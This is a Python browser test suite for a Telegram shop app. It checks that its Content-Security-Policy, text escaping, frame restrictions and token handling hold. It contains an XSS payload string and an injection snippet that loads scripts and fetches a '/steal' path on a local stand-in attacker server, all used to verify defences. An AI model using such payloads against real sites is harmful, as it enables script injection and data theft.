"""What the browser itself refuses: scripts and pictures of others, frames of others; and what it is never told."""

from collections.abc import AsyncIterator
from urllib.parse import quote

import pytest
from aiohttp import ClientSession, web
from playwright.async_api import Browser, Page, expect

from core.kit.clock import SystemClock
from core.orders.reviews import ModerateReviews
from db.types.ids import encode_id
from tests.journeys.mini_app import IN_A_BROWSER, mini_app
from tests.journeys.stage import Scene, put_up
from tests.journeys.web import Visitor

pytestmark = IN_A_BROWSER
HOSTILE = "</script><img src=x onerror=hacked=1><script>hacked=1</script> <b>Чай</b>"
# Notes what the policy refused.
REFUSED = """
window.refused = [];
addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
  refused.push(`${effectiveDirective} ${blockedURI}`));
"""
# What somebody would try who could write into the page.
ATTACKS = """
(elsewhere) => {
  const put = (tag, told) => document.body.append(Object.assign(document.createElement(tag), told));
  put('script', { textContent: 'window.hacked = 1' });
  put('script', { src: `${elsewhere}/x.js` });
  put('img', { src: `${elsewhere}/x.png` });
  put('iframe', { src: `${elsewhere}/` });
  put('link', { rel: 'stylesheet', href: `${elsewhere}/x.css` });
  document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hacked = 1">');
  fetch(`${elsewhere}/steal`).catch(() => {});
  const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
  document.body.append(form);
  form.submit();
}
"""


@pytest.fixture
async def elsewhere() -> AsyncIterator[tuple[str, list[str]]]:
    """Somebody else's site, and what it was asked for; `?shows=` puts an address into a frame of it."""
    asked: list[str] = []

    async def answer(request: web.Request) -> web.Response:
        asked.append(request.path)
        shown = request.query.get("shows", "")
        return web.Response(text=f'<iframe src="{shown}"></iframe>' if shown else "", content_type="text/html")

    app = web.Application()
    app.router.add_route("*", "/{rest:.*}", answer)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}", asked
    await runner.cleanup()


@pytest.fixture
async def session() -> AsyncIterator[ClientSession]:
    async with ClientSession() as found:
        yield found


def shop(scene: Scene, path: str = "") -> str:
    return f"http://127.0.0.1:{scene.app.port}/s/{scene.stall.shop.slug}{path}"


@pytest.fixture
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context(locale="ru", service_workers="block")
    await context.add_init_script(REFUSED)
    yield await context.new_page()
    await context.close()


async def test_what_is_not_ours_is_neither_run_nor_asked_for(
    scene: Scene, page: Page, elsewhere: tuple[str, list[str]]
) -> None:
    there, asked = elsewhere
    await page.goto(shop(scene))
    await page.get_by_role("link", name="Зелёный чай").first.wait_for()
    assert await page.evaluate("refused") == []
    await page.evaluate(ATTACKS, there)
    wanted = {
        "script-src-elem inline", f"script-src-elem {there}/x.js", f"img-src {there}/x.png", f"frame-src {there}",
        f"style-src-elem {there}/x.css", "script-src-attr inline", f"connect-src {there}/steal",
        f"form-action {there}/form",
    }  # fmt: skip
    await page.wait_for_function("(count) => new Set(refused).size >= count", arg=len(wanted))
    assert set(await page.evaluate("refused")) == wanted
    assert await page.evaluate("window.hacked") is None
    assert asked == []
    # The control: a page without a policy does all of it.
    await page.goto(f"{there}/bare")
    await page.evaluate(ATTACKS.replace("form.submit();", ""), there)
    await page.wait_for_function("window.hacked === 1")
    await page.wait_for_function("performance.getEntriesByType('resource').some(({ name }) => name.endsWith('/steal'))")
    assert {"/x.js", "/x.png", "/steal"} <= set(asked)


async def test_what_people_write_is_text(scene: Scene, page: Page, session: ClientSession) -> None:
    [bad] = await put_up(scene.stall, "BAD", {"ru": HOSTILE, "en": HOSTILE}, 100_00, description={"ru": HOSTILE})
    anna = await Visitor(scene, session, {}).enters(scene.anna, "Анна")
    await scene.anna.start()
    bought = await anna.orders(bad, pay="cash")
    order, fulfil, owner = (await scene.order())["id"], scene.town.fulfil, scene.stall.owner
    for step in (fulfil.accept, fulfil.pack, fulfil.deliver):
        await step(owner, order)
    product = encode_id(bad.product_id)
    told = {"product": product, "rating": 5, "words": HOSTILE}
    await anna.does("POST", f"/orders/{bought['id']}/reviews", told)
    review = await scene.stall.ask("SELECT max(id) FROM reviews")
    await ModerateReviews(scene.town.uow, SystemClock()).decide(owner, review, publish=True)
    await page.goto(shop(scene))
    await expect(page.locator(".name", has_text="onerror")).to_have_text(HOSTILE)
    await page.goto(shop(scene, f"/p/{product}"))
    await expect(page.locator(".about h1")).to_have_text(HOSTILE)
    await expect(page.locator(".about .words")).to_have_text(HOSTILE)
    await expect(page.locator(".review p").last).to_have_text(HOSTILE)
    await page.goto(shop(scene, f"/search?q={quote(HOSTILE)}"))
    await expect(page.locator(".empty-title")).to_contain_text(HOSTILE)
    assert await page.evaluate("window.hacked") is None
    # Nothing of it was even tried: the policy had nothing to refuse.
    assert await page.evaluate("refused") == []


async def test_only_telegram_shows_the_shop_in_a_frame(
    scene: Scene, browser: Browser, page: Page, elsewhere: tuple[str, list[str]]
) -> None:
    there, _ = elsewhere
    answer = await page.request.get(shop(scene))
    policy = answer.headers["content-security-policy"]
    framed = policy.partition("frame-ancestors ")[2].partition(";")[0].split()
    assert framed == ["'self'", "https://web.telegram.org", "https://*.telegram.org", scene.driver.url]
    assert "x-frame-options" not in answer.headers
    async with page.expect_console_message(lambda said: "frame-ancestors" in said.text):
        await page.goto(f"{there}/?shows={shop(scene)}")
    assert "Зелёный чай" not in await page.frames[-1].content()
    # The control: the local Telegram does show it.
    async with mini_app(scene, browser, scene.anna) as app:
        await app.screen.get_by_role("link", name="Зелёный чай").first.wait_for()


async def test_what_proves_who_somebody_is_stays_out_of_addresses_and_logs(
    scene: Scene, browser: Browser, capsys: pytest.CaptureFixture[str]
) -> None:
    addresses: list[str] = []
    async with mini_app(scene, browser, scene.anna, worker=False, locale="ru") as app:
        app.page.on("request", lambda request: addresses.append(request.url))
        await app.is_signed_in()
        frame = await app.frame()
        assert "tgWebAppData" not in await frame.evaluate("location.href + document.referrer")
        await app.screen.get_by_role("link", name="Зелёный чай").first.click()
        await app.screen.get_by_role("button", name="В корзину", exact=True).click()
        await app.screen.locator(".about .step").wait_for()
        await app.goes_back()
        await app.screen.get_by_role("link", name="Профиль").click()
        await app.screen.get_by_role("heading", name="Анна").wait_for()
        keys = await app.keys()
        launch = await frame.evaluate("sessionStorage['telegram-launch']")
        assert "hash=" in launch
        # Neither is kept for longer than the visit, or with what is kept of the goods.
        assert "hash=" not in await frame.evaluate("JSON.stringify(localStorage)")
        # Whoever comes next on this device after signing out finds nothing.
        await app.screen.get_by_role("button", name="Выйти", exact=True).click()
        await app.screen.get_by_role("link", name="Зелёный чай").first.wait_for()
        assert await (await app.frame()).evaluate(f"localStorage['shop-{scene.stall.shop.slug}']") is None
    log = capsys.readouterr().out
    assert "http.request" in log
    for secret in (keys["access_token"], keys["refresh_token"], launch.partition("hash=")[2][:64]):
        assert secret not in log
        assert all(secret not in address for address in addresses)
